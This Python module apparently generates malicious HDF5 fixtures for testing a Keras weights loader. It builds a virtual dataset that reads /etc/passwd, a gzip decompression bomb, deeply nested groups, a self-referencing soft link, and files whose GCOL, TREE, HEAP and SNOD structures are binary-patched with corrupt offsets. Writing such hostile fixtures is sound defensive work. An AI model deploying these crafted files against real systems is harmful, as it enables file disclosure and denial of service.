"""HDF5 files made to do harm to whoever reads them as weights of Keras."""

from __future__ import annotations

import struct
from collections.abc import Callable
from pathlib import Path
from typing import Any

import h5py
import numpy as np


def write_hdf5(folder: Path) -> None:
    """Write each into a folder."""

    def make(file_name: str, fill: Callable[[Any], None], **more: Any) -> Path:
        with h5py.File(folder / file_name, "w", **more) as file:
            fill(file)
        return folder / file_name

    def layers(file: Any, named: str = "c") -> Any:
        file.attrs["layer_names"] = [named.encode()]
        group = file.create_group(named)
        group.attrs["weight_names"] = [f"{named}/kernel:0".encode()]
        return group

    def patched(
        file_name: str, fill: Callable[[Any], None], old: bytes, new: Callable[[bytes], bytes]
    ) -> None:
        path = make(file_name, fill)
        data = path.read_bytes()
        at = data.index(old)
        path.write_bytes(data[:at] + new(data[at : at + 64]) + data[at + 64 :])

    def config(file: Any) -> None:
        file.attrs["model_config"] = "{" + " " * 300 + "}"
        file.attrs["keras_version"] = "2.15.0"

    def virtual(file: Any) -> None:
        layout = h5py.VirtualLayout((3, 3, 1, 1), "f4")
        layout[:] = h5py.VirtualSource("/etc/passwd", "x", (3, 3, 1, 1))
        layers(file).create_virtual_dataset("c/kernel:0", layout)

    def nested(file: Any) -> None:
        here = layers(file)
        for _ in range(200):
            here = here.create_group("g")

    def small_chunks(file: Any) -> None:
        layers(file).create_dataset("c/kernel:0", data=np.zeros((300, 300), "f4"), chunks=(2, 2))

    zeros = np.zeros((1 << 25,), "f4")
    make("h5_virtual.h5", virtual)
    make("h5_nested.h5", nested)
    make("h5_chunks.h5", small_chunks)
    make(
        "h5_bomb.h5",
        lambda f: layers(f).create_dataset(
            "c/kernel:0", data=zeros, compression="gzip", chunks=(1 << 22,)
        ),
    )
    make(
        "h5_filter.h5",
        lambda f: layers(f).create_dataset("c/kernel:0", data=zeros[:100], compression="lzf"),
    )
    make("h5_soft.h5", lambda f: f.__setitem__("model_weights", h5py.SoftLink("/model_weights")))
    make(
        "h5_newest.h5",
        lambda f: layers(f).create_dataset("c/kernel:0", data=zeros[:100], chunks=(7,)),
        libver="latest",
    )
    make("h5_objects.h5", lambda f: layers(f).create_dataset("c/kernel:0", (2,), h5py.ref_dtype))
    patched("h5_endless_heap.h5", config, b"GCOL", lambda b: b[:24] + bytes(16) + b[40:])
    patched(
        "h5_heap_itself.h5", config, b"GCOL", lambda b: b[:8] + struct.pack("<Q", 2**63) + b[16:]
    )
    patched("h5_tree_itself.h5", config, b"TREE", lambda b: b[:5] + b"\x01\x01\x00" + b[8:])
    patched("h5_names.h5", layers, b"HEAP", lambda b: b[:8] + struct.pack("<Q", 2**40) + b[16:])
    patched("h5_table.h5", layers, b"SNOD", lambda b: b[:6] + b"\xff\xff" + b[8:])
